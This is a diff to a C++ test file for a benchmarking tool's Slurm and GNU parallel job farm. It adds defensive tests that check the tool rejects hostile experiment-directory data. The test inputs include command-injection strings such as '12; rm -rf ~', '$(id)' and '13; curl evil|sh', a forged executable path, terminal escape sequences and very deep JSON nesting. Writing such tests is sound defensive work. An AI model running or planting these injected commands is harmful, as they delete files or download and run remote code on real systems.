@@ -1,8 +1,11 @@
 // The pure side of bench on a farm (issue 16): what is said to Slurm and GNU parallel, what is
 // read back from them, the experiment directory's files, and how rounds become an Outcome.
+#include <sys/stat.h>
+
 #include <catch2/catch.hpp>
 
 #include "farm/collect.hpp"
+#include "farm/executors.hpp"
 #include "farm/experiment.hpp"
 #include "farm/scheduler.hpp"
 #include "temp_dir.hpp"
@@ -66,10 +69,11 @@ TEST_CASE("Farm: sbatch gets one array task per round, and options edashim sets 
 }
 
 TEST_CASE("Farm: GNU parallel runs one job per round, on this machine unless hosts are given", "[farm]") {
-  auto local = farm::parallel_argv("/d", "/usr/bin/edashim", {0, 1}, {}, "/d/parallel/joblog-1");
-  CHECK(local == std::vector<std::string>{"parallel", "--will-cite", "--jobs", "1", "--joblog", "/d/parallel/joblog-1",
-                                          "--sshlogin", ":", "/usr/bin/edashim", "bench", "round", "/d", "{}", ":::", "0", "1"});
-  auto remote = farm::parallel_argv("/d", "/usr/bin/edashim", {3}, {"--sshlogin", "n1,n2"}, "/d/parallel/joblog-2");
+  auto local = farm::parallel_argv("/d", "/usr/bin/edashim", "ab12", {0, 1}, {}, "/d/parallel/joblog-1");
+  CHECK(local == std::vector<std::string>{"parallel", "--will-cite", "-q", "--jobs", "1", "--joblog", "/d/parallel/joblog-1",
+                                          "--sshlogin", ":", "/usr/bin/edashim", "bench", "round", "--fingerprint", "ab12",
+                                          "/d", "{}", ":::", "0", "1"});
+  auto remote = farm::parallel_argv("/d", "/usr/bin/edashim", "ab12", {3}, {"--sshlogin", "n1,n2"}, "/d/parallel/joblog-2");
   CHECK(std::count(remote.begin(), remote.end(), ":") == 0);
   CHECK(std::find(remote.begin(), remote.end(), "n1,n2") != remote.end());
 }
@@ -141,18 +145,20 @@ TEST_CASE("Farm: create copies profile files and inputs in, and refuses a direct
   e.spec.arms[1].profile = "./lean.toml";
   e.spec.fresh_copy = {"design.v"};
   std::string error;
-  auto made = farm::create(t.path + "/exp", e, error);
+  auto made = farm::create(t.path + "/exp", e, {}, error);
   REQUIRE(made);
+  CHECK(made->own);
   CHECK(made->spec.arms[1].profile == t.path + "/exp/profiles/1-lean.toml");
   CHECK(util::read_file(made->spec.arms[1].profile) == "allocator = \"jemalloc\"\n");
   CHECK(made->spec.fresh_copy_from == t.path + "/exp/inputs");
   CHECK(util::read_file(t.path + "/exp/inputs/design.v") == "module top; endmodule\n");
-  auto loaded = farm::load(t.path + "/exp", "0.1.0", error);
+  auto loaded = farm::load(t.path + "/exp", "0.1.0", {}, error);
   REQUIRE(loaded);
   CHECK(loaded->fingerprint == made->fingerprint);
-  CHECK_FALSE(farm::load(t.path + "/exp", "0.2.0", error));
+  CHECK(loaded->own);
+  CHECK_FALSE(farm::load(t.path + "/exp", "0.2.0", {}, error));
   CHECK(error.find("made by edashim 0.1.0 and this is edashim 0.2.0") != std::string::npos);
-  CHECK_FALSE(farm::create(t.path + "/exp", e, error));
+  CHECK_FALSE(farm::create(t.path + "/exp", e, {}, error));
   CHECK(error.find("already holds an experiment") != std::string::npos);
 }
 
@@ -227,4 +233,139 @@ TEST_CASE("Farm: only complete rounds enter the figures, in schedule order, and 
   auto again = farm::collect(e, files, tasks);
   CHECK(again.outcome.runs.size() == c.outcome.runs.size());
   for (std::size_t i = 0; i < c.outcome.runs.size(); ++i) CHECK(again.outcome.runs[i].order == c.outcome.runs[i].order);
+}
+
+// Issue 24: an experiment directory is data another user may have written.
+
+TEST_CASE("Farm: job ids are Slurm's or parallel's forms, anything else never reaches a command", "[farm][hostile]") {
+  for (const char* ok : {"12", "12_3", "12_[3-5,7]", "12_[0-9%2]", "4294967295"}) CHECK(farm::valid_job_id("slurm", ok));
+  for (const char* bad : {"", "12; rm -rf ~", "$(id)", "12 13", "-1", "12_", "12\n", "12_[3-5", "`id`", "12|x", "abc"})
+    CHECK_FALSE(farm::valid_job_id("slurm", bad));
+  CHECK(farm::valid_job_id("parallel", "4242"));
+  for (const char* bad : {"0", "-1", "4242;id", "1 2", "", "1234567890"}) CHECK_FALSE(farm::valid_job_id("parallel", bad));
+  CHECK_FALSE(farm::valid_job_id("sh", "12"));
+  std::vector<farm::Submission> subs{{1, "slurm", "12", 0, 0, {0}},
+                                     {2, "slurm", "13; curl evil|sh", 0, 0, {1}},
+                                     {3, "parallel", "$(touch /tmp/x)", 0, 0, {2}},
+                                     {4, "parallel", "4242", 0, 0, {3}}};
+  CHECK(farm::cancel_hint(subs) == "scancel 12; kill 4242");
+}
+
+TEST_CASE("Farm: Slurm's task script runs the given edashim on the fingerprint, every word quoted", "[farm][hostile]") {
+  auto script = farm::slurm_task_script("/shared/it's here", "/opt/edashim/bin/edashim", "ab12");
+  CHECK(script.find("exec /opt/edashim/bin/edashim bench round --fingerprint ab12 '/shared/it'\\''s here' "
+                    "\"$SLURM_ARRAY_TASK_ID\"\n") != std::string::npos);
+}
+
+TEST_CASE("Farm: executor arguments from experiment.json are checked as at submission", "[farm][hostile]") {
+  CHECK(farm::executor_args_problem("slurm", {"--partition=eda", "--exclusive"}).empty());
+  CHECK(farm::executor_args_problem("parallel", {"--sshlogin", "n1,n2"}).empty());
+  CHECK(farm::executor_args_problem("slurm", {"--wrap=id"}).find("--wrap=id") != std::string::npos);
+  CHECK(farm::executor_args_problem("slurm", {"--output=/home/v/.bashrc"}).find("leave it out") != std::string::npos);
+  CHECK(farm::executor_args_problem("sh", {}).find("neither slurm nor parallel") != std::string::npos);
+  CHECK(farm::executor_args_problem("parallel", {"--tag\x1b[2K"}).find("\\x1b") != std::string::npos);
+}
+
+TEST_CASE("Farm: a task runs this edashim (same inode) or one the user lists, never the file's word", "[farm][hostile]") {
+  util::FileId self{1, 100}, other{1, 200};
+  std::string error;
+  CHECK(farm::task_edashim("/opt/edashim/bin/edashim", self, self, "/opt/edashim/bin/edashim", {}, error) ==
+        std::optional<std::string>("/opt/edashim/bin/edashim"));
+  CHECK_FALSE(farm::task_edashim("/home/mallory/evil2.sh", other, self, "/opt/edashim/bin/edashim", {}, error));
+  CHECK(error.find("/home/mallory/evil2.sh") != std::string::npos);
+  CHECK(error.find("refusing") != std::string::npos);
+  CHECK_FALSE(farm::task_edashim("/home/mallory/evil2.sh", std::nullopt, self, "/x", {}, error));
+  CHECK(farm::task_edashim("/site/edashim", other, self, "/x", {"/site/edashim"}, error));
+  CHECK_FALSE(farm::task_edashim("edashim", self, self, "/x", {"edashim"}, error));  // relative: whatever PATH says
+  CHECK_FALSE(farm::task_edashim("/x\x1b]0;", other, self, "/y", {}, error));
+  CHECK(error.find('\x1b') == std::string::npos);
+}
+
+TEST_CASE("Farm: nesting is bounded before parsing, and a hostile round line never crashes", "[farm][hostile]") {
+  CHECK_FALSE(farm::nesting_exceeds(std::string(64, '[') + std::string(64, ']'), 64));
+  CHECK(farm::nesting_exceeds(std::string(65, '['), 64));
+  CHECK_FALSE(farm::nesting_exceeds("{\"a\":\"" + std::string(1000, '[') + "\"}", 64));  // in a string: text
+  CHECK_FALSE(farm::nesting_exceeds(R"({"a":"\"[[[[[[[["})", 2));
+  auto e = experiment();
+  std::string deep = "{\"arm\":0,\"record\":" + std::string(200000, '[') + std::string(200000, ']') + "}\n";
+  std::string text = round_text(e, 1, "node1", 2.0, 1.5) + deep + "{\"arm\":\"zero\",\"ok\":[]}\n";
+  auto f = farm::parse_round(text, 1, true, e.fingerprint);
+  CHECK(f.runs.size() == 2);  // the good lines still read
+  CHECK_FALSE(f.complete);    // but a round with lines not ours is not counted
+  CHECK(f.error.find("2 line(s)") != std::string::npos);
+  auto typed = farm::parse_round("{\"round\":1,\"fingerprint\":\"" + e.fingerprint + "\",\"host\":5}\n", 1, true, e.fingerprint);
+  CHECK_FALSE(typed.complete);
+}
+
+TEST_CASE("Farm: text from an experiment directory is printed with control characters escaped", "[farm][hostile]") {
+  CHECK(farm::printable("node1") == "node1");
+  CHECK(farm::printable("a\x1b[2Kb\rc\n") == "a\\x1b[2Kb\\x0dc\\x0a");
+  CHECK(farm::printable("Zürich") == "Zürich");
+}
+
+TEST_CASE("Farm: load refuses an experiment whose fingerprint is not that of its contents", "[farm][hostile]") {
+  TempDir t;
+  t.write("work/lean.toml", "allocator = \"jemalloc\"\n");
+  t.write("work/design.v", "module top; endmodule\n");
+  auto e = experiment();
+  e.cwd = t.path + "/work";
+  e.spec.arms[1].profile = "./lean.toml";
+  e.spec.fresh_copy = {"design.v"};
+  std::string error, dir = t.path + "/exp";
+  auto made = farm::create(dir, e, {}, error);
+  REQUIRE(made);
+  REQUIRE(farm::load(dir, "0.1.0", {}, error));
+  auto original = *util::read_file(farm::experiment_path(dir));
+
+  auto forged = *made;
+  forged.edashim = "/home/mallory/evil2.sh";  // the field changed, the fingerprint left as it was
+  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), farm::to_json(forged), 0644));
+  CHECK_FALSE(farm::load(dir, "0.1.0", {}, error));
+  CHECK(error.find("fingerprint") != std::string::npos);
+  CHECK(error.find(dir + "/experiment.json") != std::string::npos);
+
+  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), original, 0644));
+  t.write("exp/profiles/1-lean.toml", "allocator = \"tcmalloc\"\n");  // a copied profile swapped
+  CHECK_FALSE(farm::load(dir, "0.1.0", {}, error));
+  CHECK(error.find("fingerprint") != std::string::npos);
+  t.write("exp/profiles/1-lean.toml", "allocator = \"jemalloc\"\n");
+  REQUIRE(farm::load(dir, "0.1.0", {}, error));
+  t.write("exp/inputs/design.v", "module evil; endmodule\n");
+  CHECK_FALSE(farm::load(dir, "0.1.0", {}, error));
+  t.write("exp/inputs/design.v", "module top; endmodule\n");
+
+  // Consistent, but a profile outside the experiment: not its copy, whatever the fingerprint says.
+  forged = *made;
+  forged.spec.arms[1].profile = t.path + "/work/lean.toml";
+  forged.fingerprint = farm::fingerprint(forged, *util::read_file(t.path + "/work/lean.toml"));
+  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), farm::to_json(forged), 0644));
+  CHECK_FALSE(farm::load(dir, "0.1.0", {}, error));
+  CHECK(error.find("not the experiment's own copy") != std::string::npos);
+
+  // A 200000-deep experiment.json: refused, not a crash.
+  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), std::string(200000, '[') + std::string(200000, ']'), 0644));
+  CHECK_FALSE(farm::load(dir, "0.1.0", {}, error));
+  CHECK(error.find("nested deeper") != std::string::npos);
+}
+
+TEST_CASE("Farm: --dir must be new, or empty and the user's own under the one rule", "[farm][hostile]") {
+  TempDir t;
+  CHECK(farm::check_new_dir(t.path + "/new", {}).empty());
+  util::make_dirs(t.path + "/empty", 0700);
+  CHECK(farm::check_new_dir(t.path + "/empty", {}).empty());
+  t.write("full/notes.txt", "x");
+  CHECK(farm::check_new_dir(t.path + "/full", {}).find("is not empty") != std::string::npos);
+  util::make_dirs(t.path + "/open", 0700);
+  ::chmod((t.path + "/open").c_str(), 0777);
+  auto why = farm::check_new_dir(t.path + "/open", {});
+  CHECK(why.find(t.path + "/open") != std::string::npos);
+  CHECK(why.find("choose a new directory") != std::string::npos);
+  // A directory made by create is 0700, whatever the umask.
+  auto e = experiment();
+  e.cwd = t.path;
+  std::string error;
+  REQUIRE(farm::create(t.path + "/exp", e, {}, error));
+  struct stat st;
+  REQUIRE(::stat((t.path + "/exp").c_str(), &st) == 0);
+  CHECK((st.st_mode & 0777) == 0700);
 }
